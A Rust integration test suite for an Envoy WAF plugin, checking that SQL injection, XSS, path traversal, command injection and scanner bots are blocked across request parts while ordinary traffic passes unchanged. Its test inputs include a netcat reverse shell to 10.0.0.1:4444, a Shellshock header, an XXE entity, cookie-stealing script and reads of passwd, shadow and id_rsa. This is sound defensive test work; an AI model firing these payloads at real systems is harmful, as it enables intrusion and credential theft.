//! Injection and bad-bot screening through the real Envoy: each class blocked with its own
//! code (never echoing the payload) in the query, headers, form and JSON bodies; ordinary
//! traffic passes byte-identical; `detect` mode only counts.

use integration_tests::{Envoy, EnvoyConfig, Response, Upstream};
use serde_json::json;

fn start() -> (Envoy, Upstream) {
    let up = Upstream::start("screening");
    let config = json!({
        "policies": {
            "api": {"screening": {"bots": {"block_scanners": true, "require_user_agent": true}}},
            "public": {"screening": {"mode": "detect"}}
        }
    });
    let envoy = Envoy::start(
        EnvoyConfig::load("envoy/envoy.yaml")
            .with_plugin_config(&config.to_string())
            .with_upstreams(&[up.addr]),
    );
    (envoy, up)
}

fn blocked(r: &Response, code: &str, payload: &str) {
    assert_eq!(r.status, 403, "{}", r.text());
    assert_eq!(r.json()["error"], code, "{}", r.text());
    // Envoy's request id (a UUID) is the only request-derived text an answer carries.
    let mut body = r.json();
    body.as_object_mut().unwrap().remove("request_id");
    let rest = body.to_string();
    assert!(
        !rest.contains(payload),
        "the answer echoes the payload: {rest}"
    );
}

#[test]
fn each_class_is_blocked_wherever_it_hides() {
    let (envoy, up) = start();
    let get = |path: &str| {
        envoy
            .request("GET", path)
            .header("user-agent", "app/1.0")
            .send()
    };
    blocked(
        &get("/api/items?id=1%27%20OR%20%271%27%3D%271"),
        "blocked_sqli",
        "OR",
    );
    blocked(
        &get("/api/items?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E"),
        "blocked_xss",
        "script",
    );
    blocked(
        &get("/api/files?name=..%2F..%2F..%2Fetc%2Fpasswd"),
        "blocked_path_traversal",
        "passwd",
    );
    blocked(
        // (`;cat /etc/shadow` is now a sensitive file first: traversal is tried before
        // command injection.)
        &get("/api/ping?host=127.0.0.1%3Bwhoami"),
        "blocked_command_injection",
        "whoami",
    );
    // A cookie's name (cookies are always screened, names before values).
    let r = envoy
        .request("GET", "/api/items")
        .header("user-agent", "app/1.0")
        .header("cookie", "theme=dark; x'||pg_sleep(10)--=1")
        .send();
    blocked(&r, "blocked_sqli", "pg_sleep");
    // Bodies: a JSON string value and a form field.
    let r = envoy
        .request("POST", "/api/comments")
        .header("user-agent", "app/1.0")
        .header("content-type", "application/json")
        .body(br#"{"post": 7, "text": "<img src=x onerror=alert(document.cookie)>"}"#.to_vec())
        .send();
    blocked(&r, "blocked_xss", "onerror");
    // A JSON member name: backends build sort keys and column lists from names too.
    let r = envoy
        .request("POST", "/api/comments")
        .header("user-agent", "app/1.0")
        .header("content-type", "application/json")
        .body(br#"{"post": 7, "order": {"id; drop table users--": "asc"}}"#.to_vec())
        .send();
    blocked(&r, "blocked_sqli", "drop");
    let r = envoy
        .request("POST", "/api/search")
        .header("user-agent", "app/1.0")
        .header("content-type", "application/x-www-form-urlencoded")
        .body(b"q=1+union+select+password+from+users--".to_vec())
        .send();
    blocked(&r, "blocked_sqli", "password");
    // Two content types: the upstream might read the body as the one not screened.
    let r = envoy
        .request("POST", "/api/comments")
        .header("user-agent", "app/1.0")
        .header("content-type", "text/plain")
        .header("content-type", "application/json")
        .body(br#"{"text": "' or 1=1--"}"#.to_vec())
        .send();
    assert_eq!(r.status, 415, "{}", r.text());
    assert_eq!(r.json()["error"], "unsupported_media_type");
    // Scanners and missing user agents.
    let r = envoy
        .request("GET", "/api/items")
        .header("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")
        .send();
    blocked(&r, "bad_bot", "sqlmap");
    let r = envoy
        .request("GET", "/api/items")
        .header("user-agent", "")
        .send();
    blocked(&r, "bad_bot", "x");
    assert!(
        up.requests().is_empty(),
        "a blocked request reached the upstream"
    );
}

#[test]
fn ordinary_traffic_passes_unchanged_and_detect_mode_only_counts() {
    let (envoy, up) = start();
    let body = br#"{"name": "Siobhan O'Brien", "note": "Please select the blue one & drop it off; thanks!", "url": "https://example.com/docs/v1/users?id=42"}"#;
    let r = envoy
        .request("POST", "/api/people")
        .header("user-agent", "app/1.0")
        .header("content-type", "application/json")
        .body(body.to_vec())
        .send();
    assert_eq!(r.status, 200, "{}", r.text());
    let r = envoy
        .request("GET", "/api/search?q=O%27Brien&sort=name&tags=a,b")
        .header("user-agent", "Mozilla/5.0 (X11; Linux x86_64)")
        .send();
    assert_eq!(r.status, 200, "{}", r.text());
    let seen = up.requests();
    assert_eq!(seen.len(), 2);
    assert_eq!(seen[0].body, body.to_vec());
    // Detect (shadow) mode: passes, counted by class and rule.
    let r = envoy
        .request("GET", "/public/items?id=1%27%20OR%20%271%27%3D%271")
        .send();
    assert_eq!(r.status, 200, "{}", r.text());
    let stats = envoy.admin_get("/stats?filter=api_guard.screening");
    assert!(
        stats.contains("wasmcustom.api_guard.screening.sqli.detected: 1"),
        "{stats}"
    );
    assert!(
        stats.contains("wasmcustom.api_guard.screening.rule."),
        "{stats}"
    );
}

#[test]
fn multipart_uploads_are_screened_field_by_field_and_unreadable_ones_refused() {
    let (envoy, up) = start();
    let ct = "multipart/form-data; boundary=----apiGuardTest7MA4YWxk";
    let part = |name: &str, file: Option<&str>, content: &[u8]| {
        let file = file
            .map(|f| format!("; filename=\"{f}\"\r\nContent-Type: application/octet-stream"))
            .unwrap_or_default();
        let mut out = format!(
            "------apiGuardTest7MA4YWxk\r\nContent-Disposition: form-data; name=\"{name}\"{file}\r\n\r\n"
        )
        .into_bytes();
        out.extend_from_slice(content);
        out.extend_from_slice(b"\r\n");
        out
    };
    let end = b"------apiGuardTest7MA4YWxk--\r\n";
    let post = |body: Vec<u8>| {
        envoy
            .request("POST", "/api/uploads")
            .header("user-agent", "app/1.0")
            .header("content-type", ct)
            .body(body)
            .send()
    };
    // An ordinary upload: a text field and a binary file whose bytes look like anything.
    let ok = [
        part("title", None, b"Siobhan O'Brien's holiday"),
        part(
            "photo",
            Some("beach.jpg"),
            b"\xff\xd8\xff' or 1=1-- <script>",
        ),
        end.to_vec(),
    ]
    .concat();
    let r = post(ok.clone());
    assert_eq!(r.status, 200, "{}", r.text());
    assert_eq!(up.requests().len(), 1);
    assert_eq!(up.requests()[0].body, ok, "passed byte-identical");
    up.clear();
    // A field value and a file name.
    let r = post(
        [
            part("q", None, b"1 union select password from users--"),
            end.to_vec(),
        ]
        .concat(),
    );
    blocked(&r, "blocked_sqli", "password");
    let r = post(
        [
            part("doc", Some("../../../../etc/cron.d/x"), b"x"),
            end.to_vec(),
        ]
        .concat(),
    );
    blocked(&r, "blocked_path_traversal", "cron");
    // A body the strict reader cannot read is not let through unscreened.
    let mut broken = part("q", None, b"x");
    broken.extend_from_slice(b"------apiGuardTest7MA4YWxk");
    let r = post(broken);
    assert_eq!(r.status, 400, "{}", r.text());
    assert_eq!(r.json()["error"], "malformed_multipart");
    assert!(
        up.requests().is_empty(),
        "a refused upload reached the upstream"
    );
    let stats = envoy.admin_get("/stats?filter=api_guard.policy.api.denied");
    assert!(
        stats.contains("wasmcustom.api_guard.policy.api.denied.malformed_multipart: 1"),
        "{stats}"
    );
}

/// Every request header is screened by default (issue 13): an attack in a header no policy
/// lists is refused before the upstream; browser headers, credentials and a header the
/// policy skips pass, and reach the upstream as sent.
#[test]
fn headers_are_screened_by_default() {
    let up = Upstream::start("screening-headers");
    let config = json!({
        "policies": {
            "api": {"screening": {"skip": ["header.x-raw-filter"]}}
        }
    });
    let envoy = Envoy::start(
        EnvoyConfig::load("envoy/envoy.yaml")
            .with_plugin_config(&config.to_string())
            .with_upstreams(&[up.addr]),
    );
    let r = envoy
        .request("GET", "/api/items")
        .header("user-agent", "app/1.0")
        .header("x-tenant", "acme' OR '1'='1")
        .send();
    blocked(&r, "blocked_sqli", "acme");
    let r = envoy
        .request("GET", "/api/items")
        .header("user-agent", "app/1.0")
        .header("x-forwarded-host", "() { :;}; /bin/bash -c id")
        .send();
    blocked(&r, "blocked_command_injection", "bash");
    assert!(
        up.requests().is_empty(),
        "a blocked request reached the upstream"
    );
    let r = envoy
        .request("GET", "/api/items?page=2")
        .header("user-agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36")
        .header("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")
        .header("accept-language", "de-DE,de;q=0.9,en;q=0.8")
        .header("sec-ch-ua", "\"Chromium\";v=\"128\", \"Not;A=Brand\";v=\"24\"")
        .header("if-none-match", "W/\"5e15153d-120f\"")
        .header("authorization", "Bearer ' or 1=1--")
        .header("x-raw-filter", "<script>kept</script>")
        .send();
    assert_eq!(r.status, 200, "{}", r.text());
    let seen = up.requests();
    assert_eq!(seen.len(), 1);
    let header = |name: &str| {
        seen[0]
            .headers
            .iter()
            .find(|(n, _)| n == name)
            .map(|(_, v)| v.clone())
    };
    assert_eq!(
        header("x-raw-filter").as_deref(),
        Some(&b"<script>kept</script>"[..])
    );
    assert_eq!(
        header("sec-ch-ua").as_deref(),
        Some(&b"\"Chromium\";v=\"128\", \"Not;A=Brand\";v=\"24\""[..])
    );
}

/// One family per class that the first round missed, refused through Envoy with its class's
/// code: a command line without a separator, a sensitive file outside a traversal, SQL
/// without a quote breakout, script without a tag, a scanner from the CRS list.
#[test]
fn new_families_are_blocked_through_envoy() {
    let (envoy, up) = start();
    let get = |path: &str| {
        envoy
            .request("GET", path)
            .header("user-agent", "app/1.0")
            .send()
    };
    blocked(
        &get("/api/run?cmd=nc%20-e%20/bin/sh%2010.0.0.1%204444"),
        "blocked_command_injection",
        "nc",
    );
    blocked(
        &get("/api/files?name=/home/app/.ssh/id_rsa"),
        "blocked_path_traversal",
        "id_rsa",
    );
    blocked(
        &get("/api/items?id=(CASE%20WHEN%203337%3D5369%20THEN%2011%20ELSE%20NULL%20END)"),
        "blocked_sqli",
        "CASE",
    );
    blocked(
        &get("/api/items?q=document.location%3D%27//x/%27%2Bdocument.cookie"),
        "blocked_xss",
        "cookie",
    );
    let r = envoy
        .request("GET", "/api/items")
        .header(
            "user-agent",
            "Mozilla/5.0 (compatible; Detectify) +https://detectify.com/bot/",
        )
        .send();
    blocked(&r, "bad_bot", "Detectify");
    assert!(
        up.requests().is_empty(),
        "a blocked request reached the upstream"
    );
}

/// Bodies beyond form, JSON and multipart (issue 13): without a content-type (read as JSON
/// when it is JSON, as text otherwise), newline-delimited JSON line by line, XML text and
/// attribute values, and `text/plain` as one value; an XML body the reader cannot read
/// (a DOCTYPE) is 400 and never reaches the upstream. Over HTTP/1.1 and HTTP/2.
#[test]
fn unlabelled_ndjson_xml_and_text_bodies_are_screened() {
    let (envoy, up) = start();
    for http2 in [false, true] {
        let post = |ct: Option<&str>, body: &str| {
            let mut r = envoy
                .request("POST", "/api/import")
                .header("user-agent", "app/1.0")
                .body(body.as_bytes().to_vec());
            if let Some(ct) = ct {
                r = r.header("content-type", ct);
            }
            if http2 {
                r = r.http2();
            }
            r.send()
        };
        let passes = [
            (None, r#"{"name": "Ada Lovelace", "notes": "see you at 5"}"#),
            (None, "plain words, no type"),
            (
                Some("application/x-ndjson"),
                "{\"sku\": \"A-1\"}\n{\"sku\": \"B-2\", \"qty\": 3}\n",
            ),
            (
                Some("application/xml"),
                "<?xml version=\"1.0\"?><order id=\"7\"><item>pen, blue</item></order>",
            ),
            (Some("text/plain"), "Dear team, the report is attached."),
        ];
        for (ct, body) in passes {
            up.clear();
            let r = post(ct, body);
            assert_eq!(r.status, 200, "{ct:?} {body}: {}", r.text());
            let got = up.requests();
            assert_eq!(got.len(), 1, "{ct:?} {body}");
            assert_eq!(got[0].body, body.as_bytes(), "passed byte-identical");
        }
        up.clear();
        let refused = [
            (
                None,
                r#"{"q": "1' union select password from users--"}"#,
                "blocked_sqli",
                "password",
            ),
            (None, "x; whoami", "blocked_command_injection", "whoami"),
            (
                Some("application/x-ndjson"),
                "{\"a\": 1}\n{\"html\": \"<script>alert(1)</script>\"}\n",
                "blocked_xss",
                "script",
            ),
            (
                Some("application/xml"),
                "<order><file path=\"../../../../etc/shadow\"/></order>",
                "blocked_path_traversal",
                "shadow",
            ),
            (
                Some("application/soap+xml"),
                "<e><q>1 OR 1=1 UNION SELECT secret FROM keys</q></e>",
                "blocked_sqli",
                "secret",
            ),
            (Some("text/plain"), "x' or '1'='1", "blocked_sqli", "'1'"),
        ];
        for (ct, body, code, payload) in refused {
            let r = post(ct, body);
            blocked(&r, code, payload);
        }
        let r = post(
            Some("text/xml"),
            "<!DOCTYPE a [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><a>&e;</a>",
        );
        assert_eq!(r.status, 400, "{}", r.text());
        assert_eq!(r.json()["error"], "malformed_xml");
        let r = post(Some("application/x-ndjson"), "{\"a\": 1}\nnot json\n");
        assert_eq!(r.status, 400, "{}", r.text());
        assert_eq!(r.json()["error"], "malformed_json");
        assert!(
            up.requests().is_empty(),
            "a refused body reached the upstream (http2: {http2})"
        );
    }
}
